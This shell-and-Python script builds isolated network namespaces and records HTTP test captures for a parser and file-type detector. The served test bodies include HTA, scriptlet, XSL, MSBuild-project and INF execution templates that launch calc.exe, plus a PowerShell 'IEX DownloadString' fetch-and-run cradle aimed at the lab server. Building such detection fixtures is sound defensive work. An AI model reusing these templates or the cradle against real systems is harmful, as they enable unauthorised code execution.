#!/usr/bin/env bash
# make-http-set.sh: record pcaps/http-*.pcap, a set of small real captures that exercise an
# HTTP/1.x parser and file-type detection.  Real clients (curl; python3 raw sockets for the
# odd cases) talk to an HTTP server written here in python3 that does its own framing.
#
# Two network namespaces joined by one veth pair, nothing else (the same approach as
# make-demo.sh, with other names and addresses so the two scripts never collide):
#
#   lwh-client  lwh-c0  10.98.0.2/24  <---- veth ---->  lwh-s0  10.98.0.1/24  lwh-server
#
# One capture per file, each with its own tcpdump on lwh-c0 in lwh-client:
#   http-pipelining.pcap        3 GETs sent back to back on one connection (raw socket)
#   http-keepalive.pcap         curl: 3 GETs, HEAD, POST form, 304, 204 on one connection
#   http-chunked-gzip.pcap      chunked + gzip (with a trailer) HTA; deflate PowerShell
#   http-close-delimited.pcap   HTTP/1.0 body ended by close; POST with 100 Continue
#   http-range.pcap             a PE in three 206 ranges, then a multipart/byteranges 206
#   http-lolbin-payloads.pcap   MSI, OLE (non-MSI), HTA, SCT, XSL, csproj, PE, CAB, ZIP, disguises
#   http-nonhttp-port80.pcap    binary garbage both ways on :80, real HTTP on :8080
#
# Every served body is deterministic (fixed timestamps, GUIDs and seeds), so its SHA-256 is
# the same on every run; the captures themselves are not byte-reproducible (ports, times).
# The hashes go to pcaps/http-set.sha256 as "<sha256>  <capture>  <uri>", where a "#..."
# suffix on the URI marks a body that is not simply "the response body of GET <uri>":
# "#request" (a POST body), "#bytes=A-B" (one byte range), "#multipart" (a whole
# multipart/byteranges entity).  A URI with no suffix is the whole decoded resource.
#
# Needs root (namespaces, tcpdump).  Installs missing Debian packages with apt-get.
# Idempotent: removes namespaces left over from an earlier run, writes each capture to a
# temporary file and moves the set into place only when every capture is verified.  The
# served files and logs live in a temporary directory that is removed on exit.  No packet
# leaves the two namespaces.
#
# Usage: sudo bash pcaps/make-http-set.sh [OUTPUT-DIR]     (default: pcaps/)
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
OUTDIR="$(cd "${1:-$HERE}" && pwd)"

NS_C=lwh-client
NS_S=lwh-server
IF_C=lwh-c0
IF_S=lwh-s0
IP_C=10.98.0.2
IP_S=10.98.0.1
MAC_C=02:10:98:00:00:02
MAC_S=02:10:98:00:00:01
HOST=www.example.test
PY=/usr/bin/python3          # Debian's python3 (python3-xlwt, python3-olefile live there)
FAKETIME='2024-01-01 00:00:00'

UA_BROWSER='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0'
UA_IE7='Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; .NET4.0C; .NET4.0E)'
UA_MSI='Windows Installer'
UA_CERTUTIL='CertUtil URL Agent'
UA_BITS='Microsoft BITS/7.8'
UA_CRYPTOAPI='Microsoft-CryptoAPI/10.0'
UA_PS='Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803'
UA_RAW='lolwire-pipeline/1.0 (python3 raw socket)'

CAPTURES=(http-pipelining http-keepalive http-chunked-gzip http-close-delimited
          http-range http-lolbin-payloads http-nonhttp-port80)

# shellcheck source=netns-lib.sh
. "$HERE/netns-lib.sh"

# ---------------------------------------------------------------------------------------
# Tools.  command or python module -> Debian package; install whatever is missing.
# ---------------------------------------------------------------------------------------
declare -A PKG_OF=(
    [ip]=iproute2 [ss]=iproute2 [ethtool]=ethtool [tcpdump]=tcpdump [tshark]=tshark
    [curl]=curl [wixl]=wixl [msiinfo]=msitools [msibuild]=msitools [gcab]=gcab [zip]=zip
    [unzip]=unzip [faketime]=faketime [file]=file [sha256sum]=coreutils
)
mapfile -t missing < <(lw_missing_commands)
[ -x "$PY" ] || missing+=(python3)
for mod in xlwt:python3-xlwt olefile:python3-olefile; do
    { [ -x "$PY" ] && "$PY" -c "import ${mod%%:*}" 2>/dev/null; } || missing+=("${mod#*:}")
done
lw_install "${missing[@]}"

# Namespaces left by an interrupted run go first; netns-lib.sh cleans up on exit.
lw_remove_leftovers

TMP="$(mktemp -d /tmp/lolwire-http.XXXXXX)"
WWW="$TMP/www"      # what the server serves
GOT="$TMP/got"      # what the clients received
PC="$TMP/pcap"      # captures before they are moved into place
mkdir -p "$WWW" "$GOT" "$PC" "$TMP/msi" "$TMP/cab" "$TMP/zip"

# ---------------------------------------------------------------------------------------
# lwh.py: content builder, HTTP server (own framing), raw-socket clients, body manifest.
# ---------------------------------------------------------------------------------------
cat >"$TMP/lwh.py" <<'PYEOF'
"""Helper for make-http-set.sh.

  lwh.py build TMP                         write the served files (except MSI/CAB/ZIP)
  lwh.py manifest TMP                      print "capture<TAB>uri<TAB>sha256<TAB>size<TAB>path"
  lwh.py serve ADDR PORT[,PORT..] WWW      HTTP/1.x server with hand-made framing
  lwh.py garbage-server ADDR PORT          answers any connection with binary garbage
  lwh.py pipeline ADDR PORT HOST UA WWW    3 GETs sent back to back, then read 3 responses
  lwh.py garbage-client ADDR PORT          sends binary garbage, reads until close
"""
import email.utils, gzip, hashlib, json, os, random, socket, socketserver, struct, sys
import threading, time, zlib

# Bodies fixed by the brief, byte for byte.
HTA_CHUNKED = (b'<html><head><HTA:APPLICATION ID="x" APPLICATIONNAME="y"/></head><body>'
               b'<script language="VBScript">MsgBox 1</script></body></html>')
PS1_DEFLATE = b"$wc = New-Object Net.WebClient; IEX $wc.DownloadString('http://10.98.0.1/a.ps1')"
GZIP_CHUNKS = (10, 1, 47)          # then one chunk with the rest
BOUNDARY = "LOLWIRE_BYTERANGES_5f3c2a9e"
RANGE_URI = "/files/tool.exe"
SINGLE_RANGES = ((0, 2047), (2048, 4095), (4096, None))   # None: to the end ("4096-")
MULTI_RANGES = ((0, 63), (4096, 4159))
LAST_MODIFIED = "Mon, 01 Jan 2024 00:00:00 GMT"
SERVER = "lolwire-testd/1.0 Python/" + ".".join(map(str, sys.version_info[:3]))

# uri -> (file in WWW, Content-Type) for plain Content-Length responses.
STATIC = {
    "/hello.txt": ("hello.txt", "text/plain; charset=utf-8"),       # pipelining
    "/logo.png": ("logo.png", "image/png"),
    "/data.json": ("data.json", "application/json"),
    "/index.html": ("index.html", "text/html; charset=utf-8"),      # keep-alive
    "/style.css": ("style.css", "text/css"),
    "/app.js": ("app.js", "application/javascript"),
    "/setup.msi": ("setup.msi", "application/x-msi"),               # lolbin payloads
    "/doc.doc": ("doc.doc", "application/msword"),
    "/run.hta": ("run.hta", "application/hta"),
    "/page.html": ("page.html", "text/html"),
    "/file.sct": ("file.sct", "text/plain"),
    "/style.xsl": ("style.xsl", "text/xml"),
    "/other.xsl": ("other.xsl", "text/xml"),
    "/build.csproj": ("build.csproj", "text/xml"),
    "/payload.exe": ("payload.exe", "application/octet-stream"),
    "/update.cab": ("update.cab", "application/vnd.ms-cab-compressed"),
    "/archive.zip": ("archive.zip", "application/zip"),
    "/image.png": ("payload.exe", "image/png"),
    "/disguised.jpg": ("setup.msi", "image/jpeg"),
    "/status.html": ("status.html", "text/html; charset=utf-8"),    # :8080
}


def sha(b):
    return hashlib.sha256(b).hexdigest()


def etag_of(body):
    return '"%s"' % sha(body)[:16]


def stream(seed, n):
    """n deterministic pseudo-random bytes."""
    return random.Random(seed).randbytes(n)


# --------------------------------------------------------------------------- content
def png_16x16():
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    w = h = 16
    rows = b"".join(b"\x00" + b"".join(bytes((16 * x, 0x60, 16 * y)) for x in range(w))
                    for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))


def pe_checksum(data, off):
    s = 0
    for i in range(0, len(data), 2):
        if off <= i < off + 4:
            continue
        s += data[i] | ((data[i + 1] << 8) if i + 1 < len(data) else 0)
        s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return (s + len(data)) & 0xFFFFFFFF


def pe64():
    """A small, structurally valid PE32+ console EXE for x86-64 (7168 bytes): DOS header
    and stub, e_lfanew 0x80, 'PE\\0\\0', COFF header (AMD64, 2 sections), PE32+ optional
    header, .text (entry point: xor eax,eax; ret) and .rdata.  It is never run."""
    HDR, TEXT, RDATA = 0x400, 0x1000, 0x800
    pe = bytearray(HDR + TEXT + RDATA)
    pe[0:2] = b"MZ"
    struct.pack_into("<13H", pe, 2, 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
    struct.pack_into("<I", pe, 0x3C, 0x80)                               # e_lfanew
    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            b"This program cannot be run in DOS mode.\r\r\n$")
    pe[0x40:0x40 + len(stub)] = stub
    pe[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HHIIIHH", pe, 0x84, 0x8664, 2, 0x65920080, 0, 0, 0xF0, 0x0022)
    o = 0x98                                                             # PE32+ optional header
    struct.pack_into("<HBBIIIII", pe, o, 0x20B, 14, 36, TEXT, RDATA, 0, 0x1000, 0x1000)
    struct.pack_into("<Q", pe, o + 24, 0x140000000)                      # ImageBase
    struct.pack_into("<II", pe, o + 32, 0x1000, 0x200)                   # Section/FileAlignment
    struct.pack_into("<HHHHHH", pe, o + 40, 6, 0, 0, 0, 6, 0)           # OS/image/subsystem ver
    struct.pack_into("<III", pe, o + 52, 0, 0x3000, HDR)                 # Win32Ver, SizeOfImage, SizeOfHeaders
    struct.pack_into("<HH", pe, o + 68, 3, 0x8160)                       # console; HEVA|DYNBASE|NX|TSAWARE
    struct.pack_into("<QQQQII", pe, o + 72, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    sec = o + 0xF0
    struct.pack_into("<8sIIIIIIHHI", pe, sec, b".text", TEXT, 0x1000, TEXT, HDR, 0, 0, 0, 0, 0x60000020)
    struct.pack_into("<8sIIIIIIHHI", pe, sec + 40, b".rdata", RDATA, 0x2000, RDATA, HDR + TEXT,
                     0, 0, 0, 0, 0x40000040)
    code = b"\x31\xc0\xc3"                                               # xor eax,eax; ret
    pe[HDR:HDR + TEXT] = code + b"\xcc" * (TEXT - len(code))
    text = b"lolwire HTTP test set: a harmless PE32+ that is never run.\0"
    pe[HDR + TEXT:HDR + TEXT + RDATA] = (text + stream(0x5045, RDATA - len(text)))
    struct.pack_into("<I", pe, o + 64, pe_checksum(pe, o + 64))
    return bytes(pe)


def build(tmp):
    www = os.path.join(tmp, "www")

    def put(name, data, where=www):
        with open(os.path.join(where, name), "wb") as f:
            f.write(data if isinstance(data, bytes) else data.encode())

    # pipelining
    put("hello.txt", "Hello from the lolwire pipelining test server.\n"
                     "This is the first of three responses on one connection.\n")
    put("logo.png", png_16x16())
    put("data.json", json.dumps({"service": "example-updates", "version": "1.0.0",
                                 "channels": ["stable", "beta"], "ttl": 3600,
                                 "mirrors": [{"host": "www.example.test", "port": 80}]},
                                indent=2) + "\n")
    # keep-alive
    put("index.html", "<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\">"
                      "<title>Example Portal</title>\n<link rel=\"stylesheet\" href=\"style.css\">"
                      "\n<script src=\"app.js\"></script></head>\n<body>\n<h1>Example Portal</h1>\n"
                      "<form method=\"post\" action=\"/login\"><input name=\"user\">"
                      "<input name=\"password\" type=\"password\"><button>Log in</button></form>\n"
                      "</body>\n</html>\n")
    put("style.css", "body { font-family: sans-serif; margin: 2em; }\n"
                     "h1 { color: #204a87; }\nform { display: flex; gap: .5em; }\n")
    put("app.js", "'use strict';\nwindow.addEventListener('load', function () {\n"
                  "  setInterval(function () { fetch('/ping'); }, 30000);\n});\n")
    put("form.txt", "user=alice&password=hunter2&remember=1", tmp)
    # chunked / deflate bodies are the constants above.
    # close-delimited
    put("legacy.txt", "".join("%04d legacy HTTP/1.0 response line, no Content-Length, "
                              "the body ends when the server closes\n" % i for i in range(64)))
    put("upload.bin", "".join("%05d,host-%03d.example.test,%s\n" % (i, i % 251, sha(b"%d" % i)[:32])
                              for i in range(400)), tmp)
    # lolbin payloads
    put("payload.exe", pe64())
    put("run.hta", '<html>\n<head>\n<title>Update</title>\n'
                   '<HTA:APPLICATION ID="oUpdate" APPLICATIONNAME="Updater" BORDER="none" '
                   'SHOWINTASKBAR="no" WINDOWSTATE="minimize"/>\n'
                   '<script language="VBScript">\nSub Window_OnLoad\n'
                   '  Set sh = CreateObject("WScript.Shell")\n  sh.Run "calc.exe", 0, False\n'
                   '  self.close\nEnd Sub\n</script>\n</head>\n<body></body>\n</html>\n')
    put("page.html", '<!DOCTYPE html>\n<html>\n<head>\n<title>Invoice viewer</title>\n'
                     '<hta:application id="viewer" applicationname="InvoiceViewer" '
                     'showintaskbar="no"/>\n'
                     '<script language="JScript">\n'
                     'new ActiveXObject("WScript.Shell").Run("calc.exe", 0, false);\n'
                     'window.close();\n</script>\n</head>\n<body>Loading...</body>\n</html>\n')
    put("file.sct", '<?XML version="1.0"?><scriptlet><registration progid="x" '
                    'classid="{F0001111-0000-0000-0000-0000FEEDACDC}"><script language="JScript">'
                    '<![CDATA[ var r = new ActiveXObject("WScript.Shell").Run("calc.exe"); ]]>'
                    '</script></registration></scriptlet>')
    xsl = ('<?xml version="1.0"?>\n'
           '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"\n'
           '    xmlns:{p}="urn:schemas-microsoft-com:xslt" xmlns:user="http://example.test/user">\n'
           '<{p}:script language="JScript" implements-prefix="user">\n<![CDATA[\n'
           'function run() {{ var r = new ActiveXObject("WScript.Shell").Run("calc.exe"); '
           'return ""; }}\n]]>\n</{p}:script>\n'
           '<xsl:template match="/"><xsl:value-of select="user:run()"/></xsl:template>\n'
           '</xsl:stylesheet>\n')
    put("style.xsl", xsl.format(p="msxsl"))
    put("other.xsl", xsl.format(p="ms"))
    put("build.csproj", '<Project ToolsVersion="4.0" '
                        'xmlns="http://schemas.microsoft.com/developer/msbuild/2003">\n'
                        '  <Target Name="Build">\n    <ClassExample />\n  </Target>\n'
                        '  <UsingTask TaskName="ClassExample" TaskFactory="CodeTaskFactory" '
                        'AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.v4.0.dll">\n'
                        '    <Task>\n      <Code Type="Class" Language="cs">\n      <![CDATA[\n'
                        '        using System;\n        using Microsoft.Build.Framework;\n'
                        '        using Microsoft.Build.Utilities;\n'
                        '        public class ClassExample : Task, ITask\n        {\n'
                        '            public override bool Execute()\n            {\n'
                        '                System.Diagnostics.Process.Start("calc.exe");\n'
                        '                return true;\n            }\n        }\n      ]]>\n'
                        '      </Code>\n    </Task>\n  </UsingTask>\n</Project>\n')
    # doc.doc: an OLE compound file that is not an MSI: an Excel 97-2003 (BIFF8) workbook
    # written by xlwt (its own CFB writer; no timestamps, so the bytes are reproducible).
    import xlwt
    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("Invoices")
    for col, head in enumerate(("Invoice", "Customer", "Amount")):
        ws.write(0, col, head)
    for row in range(1, 6):
        ws.write(row, 0, "INV-%04d" % (1000 + row))
        ws.write(row, 1, "Example Corp")
        ws.write(row, 2, 125.5 * row)
    wb.save(os.path.join(www, "doc.doc"))
    # :8080
    put("status.html", "<!DOCTYPE html>\n<html><head><title>status</title></head>"
                       "<body><p>service: ok (HTTP on port 8080)</p></body></html>\n")
    # Inputs for the MSI, CAB and ZIP that the shell builds.
    put("readme.txt", "Example Updater 1.0.0\r\nlolwire test package.\r\n", os.path.join(tmp, "msi"))
    put("update.inf", "[Version]\r\nSignature=\"$Windows NT$\"\r\n\r\n[DefaultInstall]\r\n"
                      "RunPostSetupCommands=run\r\n\r\n[run]\r\npayload.exe\r\n",
        os.path.join(tmp, "cab"))
    put("payload.exe", pe64(), os.path.join(tmp, "cab"))
    put("readme.txt", "Example archive.\nContents: readme.txt, payload.exe\n", os.path.join(tmp, "zip"))
    put("payload.exe", pe64(), os.path.join(tmp, "zip"))


def gzip_chunked_parts():
    gz = gzip.compress(HTA_CHUNKED, compresslevel=9, mtime=0)
    parts, pos = [], 0
    for n in GZIP_CHUNKS:
        parts.append(gz[pos:pos + n])
        pos += n
    parts.append(gz[pos:])
    return gz, parts


def range_slice(body, a, b):
    return body[a:(len(body) if b is None else b + 1)]


def range_label(body, a, b):
    return "%d-%d" % (a, len(body) - 1 if b is None else b)


def multipart(body, ranges, ctype):
    out = b""
    for a, b in ranges:
        out += ("\r\n--%s\r\nContent-Type: %s\r\nContent-Range: bytes %s/%d\r\n\r\n"
                % (BOUNDARY, ctype, range_label(body, a, b), len(body))).encode()
        out += range_slice(body, a, b)
    return out + ("\r\n--%s--\r\n" % BOUNDARY).encode()


def upload_reply(body):
    return (json.dumps({"status": "stored", "bytes": len(body), "sha256": sha(body)}) + "\n").encode()


LOGIN_REPLY = b"<!DOCTYPE html>\n<html><body><p>Welcome back, alice.</p></body></html>\n"


def manifest(tmp):
    www = os.path.join(tmp, "www")
    rd = lambda name, where=www: open(os.path.join(where, name), "rb").read()
    rows = []

    def add(cap, uri, body, note):
        rows.append((cap + ".pcap", uri, sha(body), len(body), note))

    for u in ("/hello.txt", "/logo.png", "/data.json"):
        add("http-pipelining", u, rd(STATIC[u][0]), "response")
    for u in ("/index.html", "/style.css", "/app.js"):
        add("http-keepalive", u, rd(STATIC[u][0]), "response")
    form = rd("form.txt", tmp)
    add("http-keepalive", "/login#request", form, "POST body (form)")
    add("http-keepalive", "/login", LOGIN_REPLY, "response")
    add("http-chunked-gzip", "/update.html", HTA_CHUNKED, "response, after dechunk + gunzip")
    add("http-chunked-gzip", "/a.ps1", PS1_DEFLATE, "response, after inflate")
    add("http-close-delimited", "/legacy.txt", rd("legacy.txt"), "response, ended by close")
    up = rd("upload.bin", tmp)
    add("http-close-delimited", "/upload#request", up, "POST body")
    add("http-close-delimited", "/upload", upload_reply(up), "response")
    pe = rd("payload.exe")
    add("http-range", RANGE_URI, pe, "whole resource = the three ranges joined")
    for a, b in SINGLE_RANGES:
        add("http-range", "%s#bytes=%s" % (RANGE_URI, range_label(pe, a, b)),
            range_slice(pe, a, b), "206 body")
    add("http-range", RANGE_URI + "#multipart", multipart(pe, MULTI_RANGES, "application/x-msdownload"),
        "206 multipart/byteranges entity")
    for a, b in MULTI_RANGES:
        add("http-range", "%s#bytes=%s" % (RANGE_URI, range_label(pe, a, b)),
            range_slice(pe, a, b), "part of the multipart 206")
    for u in ("/setup.msi", "/doc.doc", "/run.hta", "/page.html", "/file.sct", "/style.xsl",
              "/other.xsl", "/build.csproj", "/payload.exe", "/update.cab", "/archive.zip",
              "/image.png", "/disguised.jpg"):
        add("http-lolbin-payloads", u, rd(STATIC[u][0]), "response")
    add("http-nonhttp-port80", "/status.html", rd("status.html"), "response (port 8080)")
    for r in rows:
        print("%s\t%s\t%s\t%d\t%s" % r)


# --------------------------------------------------------------------------- server
class Conn:
    def __init__(self, sock):
        self.s, self.buf = sock, b""

    def more(self):
        d = self.s.recv(65536)
        if not d:
            raise EOFError
        self.buf += d

    def head(self):
        """Read one header block; None on a clean EOF between messages."""
        while b"\r\n\r\n" not in self.buf:
            try:
                self.more()
            except EOFError:
                if self.buf:
                    raise
                return None
        raw, self.buf = self.buf.split(b"\r\n\r\n", 1)
        lines = raw.decode("latin-1").split("\r\n")
        hdrs = {}
        for line in lines[1:]:
            k, _, v = line.partition(":")
            hdrs[k.strip().lower()] = v.strip()
        return lines[0], hdrs

    def body(self, n):
        while len(self.buf) < n:
            self.more()
        b, self.buf = self.buf[:n], self.buf[n:]
        return b

    def send(self, data, pause=0.0):
        self.s.sendall(data)
        if pause:
            time.sleep(pause)


def head_bytes(status_line, headers):
    base = [("Date", email.utils.formatdate(usegmt=True)), ("Server", SERVER)]
    return ("\r\n".join([status_line] + ["%s: %s" % kv for kv in base + headers])
            + "\r\n\r\n").encode("latin-1")


class Handler(socketserver.BaseRequestHandler):
    www = "."

    def handle(self):
        self.request.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        c = Conn(self.request)
        try:
            while True:
                r = c.head()
                if r is None:
                    break
                if not self.dispatch(c, *r):
                    break
        except (EOFError, ConnectionError):
            pass
        finally:
            close_gently(self.request)

    def file(self, name):
        with open(os.path.join(self.www, name), "rb") as f:
            return f.read()

    def dispatch(self, c, reqline, h):
        method, target, version = reqline.split(" ", 2)
        conn = h.get("connection", "").lower()
        keep = (version == "HTTP/1.1" and conn != "close") or conn == "keep-alive"
        body = b""
        if "content-length" in h:
            if h.get("expect", "").lower() == "100-continue":
                c.send(b"HTTP/1.1 100 Continue\r\n\r\n")
            body = c.body(int(h["content-length"]))
        path = target.split("?", 1)[0]
        st = "HTTP/1.1"

        if path == "/update.html":                       # chunked + gzip + trailer
            gz, parts = gzip_chunked_parts()
            c.send(head_bytes(st + " 200 OK", [
                ("Content-Type", "text/html"), ("Content-Encoding", "gzip"), ("Vary", "Accept-Encoding"),
                ("Transfer-Encoding", "chunked"), ("Trailer", "X-Content-SHA256")]), 0.05)
            for p in parts:
                c.send(b"%x\r\n" % len(p) + p + b"\r\n", 0.05)
            c.send(b"0\r\nX-Content-SHA256: " + sha(HTA_CHUNKED).encode() + b"\r\n\r\n")
            return keep
        if path == "/a.ps1":                             # zlib ("deflate") + Content-Length
            z = zlib.compress(PS1_DEFLATE, 9)
            c.send(head_bytes(st + " 200 OK", [
                ("Content-Type", "text/plain"), ("Content-Encoding", "deflate"),
                ("Vary", "Accept-Encoding"), ("Content-Length", len(z))]) + z)
            return keep
        if path == "/login" and method == "POST":
            c.send(head_bytes(st + " 200 OK", [("Content-Type", "text/html; charset=utf-8"),
                                              ("Content-Length", len(LOGIN_REPLY))]) + LOGIN_REPLY)
            return keep
        if path == "/ping":
            c.send(head_bytes(st + " 204 No Content", [("Cache-Control", "no-store")]))
            return keep
        if path == "/legacy.txt":                        # HTTP/1.0, no length, ends at close
            data = self.file("legacy.txt")
            c.send(head_bytes("HTTP/1.0 200 OK", [("Content-Type", "text/plain"),
                                                  ("Connection", "close")]), 0.05)
            third = len(data) // 3
            for part in (data[:third], data[third:2 * third], data[2 * third:]):
                c.send(part, 0.05)
            return False
        if path == "/upload" and method == "POST":
            reply = upload_reply(body)
            c.send(head_bytes(st + " 200 OK", [("Content-Type", "application/json"),
                                              ("Content-Length", len(reply))]) + reply)
            return keep
        if path == RANGE_URI:
            return self.ranges(c, method, h, self.file("payload.exe"), keep)
        if path in STATIC:
            name, ctype = STATIC[path]
            data = self.file(name)
            tag = etag_of(data)
            if h.get("if-none-match") == tag:
                c.send(head_bytes(st + " 304 Not Modified", [("ETag", tag)]))
                return keep
            hdr = head_bytes(st + " 200 OK", [
                ("Content-Type", ctype), ("Content-Length", len(data)), ("ETag", tag),
                ("Last-Modified", LAST_MODIFIED), ("Accept-Ranges", "bytes")])
            c.send(hdr if method == "HEAD" else hdr + data)
            return keep
        msg = b"not found\n"
        c.send(head_bytes(st + " 404 Not Found", [("Content-Type", "text/plain"),
                                                 ("Content-Length", len(msg))]) + msg)
        return keep

    def ranges(self, c, method, h, data, keep):
        ctype, n = "application/x-msdownload", len(data)
        spec = h.get("range", "")
        common = [("Last-Modified", LAST_MODIFIED), ("ETag", etag_of(data)), ("Accept-Ranges", "bytes")]
        if not spec.startswith("bytes="):
            c.send(head_bytes("HTTP/1.1 200 OK", [("Content-Type", ctype), ("Content-Length", n)]
                              + common) + data)
            return keep
        rs = []
        for item in spec[6:].split(","):
            a, _, b = item.strip().partition("-")
            rs.append((int(a), int(b) if b else None))
        if len(rs) == 1:
            a, b = rs[0]
            part = range_slice(data, a, b)
            c.send(head_bytes("HTTP/1.1 206 Partial Content", [
                ("Content-Type", ctype), ("Content-Range", "bytes %s/%d" % (range_label(data, a, b), n)),
                ("Content-Length", len(part))] + common) + part)
        else:
            mp = multipart(data, rs, ctype)
            c.send(head_bytes("HTTP/1.1 206 Partial Content", [
                ("Content-Type", "multipart/byteranges; boundary=" + BOUNDARY),
                ("Content-Length", len(mp))] + common) + mp)
        return keep


def close_gently(sock):
    """FIN, then read what the peer still sends until its FIN, so close() sends no RST."""
    try:
        sock.shutdown(socket.SHUT_WR)
        sock.settimeout(2)
        while sock.recv(65536):
            pass
    except OSError:
        pass
    sock.close()


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def serve(addr, ports, www):
    Handler.www = www
    servers = [Server((addr, int(p)), Handler) for p in ports.split(",")]
    for s in servers[1:]:
        threading.Thread(target=s.serve_forever, daemon=True).start()
    servers[0].serve_forever()


GARBAGE_C2S = b"\x00\x9c\xfe\x01" + stream(0xC25, 252)   # not a method, not TLS
GARBAGE_S2C = b"\xff\x00\x7f\x80" + stream(0x52C, 380)   # not "HTTP/"


class GarbageHandler(socketserver.BaseRequestHandler):
    def handle(self):
        s = self.request
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.settimeout(3)
        got = b""
        try:
            while len(got) < len(GARBAGE_C2S):
                d = s.recv(4096)
                if not d:
                    break
                got += d
            s.sendall(GARBAGE_S2C[:200])
            time.sleep(0.05)
            s.sendall(GARBAGE_S2C[200:])
        except OSError:
            pass
        close_gently(s)


# --------------------------------------------------------------------------- clients
def read_response(sock, buf):
    while b"\r\n\r\n" not in buf:
        d = sock.recv(65536)
        if not d:
            raise EOFError("connection closed inside a header")
        buf += d
    raw, buf = buf.split(b"\r\n\r\n", 1)
    lines = raw.decode("latin-1").split("\r\n")
    hdrs = {k.strip().lower(): v.strip() for k, _, v in (l.partition(":") for l in lines[1:])}
    n = int(hdrs["content-length"])
    while len(buf) < n:
        d = sock.recv(65536)
        if not d:
            raise EOFError("connection closed inside a body")
        buf += d
    return lines[0], hdrs, buf[:n], buf[n:]


def pipeline(addr, port, host, ua, www):
    uris = ("/hello.txt", "/logo.png", "/data.json")
    reqs = b"".join(("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n"
                     % (u, host, ua)).encode() for u in uris)
    s = socket.create_connection((addr, int(port)), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(reqs)                                    # all three before reading anything
    buf, ok = b"", True
    for u in uris:
        status, hdrs, body, buf = read_response(s, buf)
        want = open(os.path.join(www, STATIC[u][0]), "rb").read()
        good = body == want and status.startswith("HTTP/1.1 200")
        ok &= good
        print("pipeline: GET %s -> %s, %d bytes, %s" % (u, status, len(body), "ok" if good else "MISMATCH"))
    close_gently(s)
    sys.exit(0 if ok else 1)


def garbage_client(addr, port):
    s = socket.create_connection((addr, int(port)), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(GARBAGE_C2S)
    got = b""
    while True:
        d = s.recv(65536)
        if not d:
            break
        got += d
    s.close()
    print("garbage-client: sent %d bytes, received %d bytes" % (len(GARBAGE_C2S), len(got)))
    sys.exit(0 if got == GARBAGE_S2C else 1)


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "build":
        build(*args)
    elif cmd == "manifest":
        manifest(*args)
    elif cmd == "serve":
        serve(*args)
    elif cmd == "garbage-server":
        Server((args[0], int(args[1])), GarbageHandler).serve_forever()
    elif cmd == "pipeline":
        pipeline(*args)
    elif cmd == "garbage-client":
        garbage_client(*args)
    else:
        sys.exit("unknown command " + cmd)
PYEOF

# ---------------------------------------------------------------------------------------
# Server-side content.
# ---------------------------------------------------------------------------------------
log "building served files in $TMP"
"$PY" "$TMP/lwh.py" build "$TMP"

# setup.msi: a real Windows Installer package built by wixl from a tiny .wxs (one file,
# embedded cabinet).  Fixed GUIDs and faketime make it byte-reproducible: wixl stamps the
# summary information with the current time and a random package code, so msibuild -s
# rewrites the summary with a fixed package code, both under a fixed clock.
cat >"$TMP/msi/setup.wxs" <<'EOF'
<?xml version="1.0" encoding="utf-8"?>
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
  <Product Id="{8B1D5C36-7C0E-4E8A-9F3B-2D4A6E1C9B71}" Name="Example Updater" Language="1033"
           Version="1.0.0" Manufacturer="Example Corp" UpgradeCode="{C4A3F0B2-51D7-4B9E-8E2A-7F60D3B1A846}">
    <Package InstallerVersion="200" Compressed="yes" Description="Example Updater"
             Comments="lolwire test package" />
    <Media Id="1" Cabinet="data.cab" EmbedCab="yes" />
    <Directory Id="TARGETDIR" Name="SourceDir">
      <Directory Id="ProgramFilesFolder">
        <Directory Id="INSTALLDIR" Name="ExampleUpdater">
          <Component Id="MainFile" Guid="{0F3A6B2D-9C1E-4D5F-A7B8-C9D0E1F2A3B4}">
            <File Id="ReadmeTxt" Name="readme.txt" Source="readme.txt" KeyPath="yes" />
          </Component>
        </Directory>
      </Directory>
    </Directory>
    <Feature Id="Complete" Level="1"><ComponentRef Id="MainFile" /></Feature>
  </Product>
</Wix>
EOF
touch -d "$FAKETIME UTC" "$TMP"/msi/* "$TMP"/cab/* "$TMP"/zip/*
(
    cd "$TMP/msi"
    TZ=UTC faketime "$FAKETIME" wixl -o setup.msi setup.wxs
    TZ=UTC faketime "$FAKETIME" msibuild setup.msi -s "Example Updater" "Example Corp" "Intel;1033" \
        "{5E1F7A2C-3B4D-4E6F-8A9B-0C1D2E3F4A5B}"
)
cp "$TMP/msi/setup.msi" "$WWW/setup.msi"
msiinfo suminfo "$WWW/setup.msi" | grep -q 'Subject: Example Updater' || die "wixl produced an unreadable MSI"
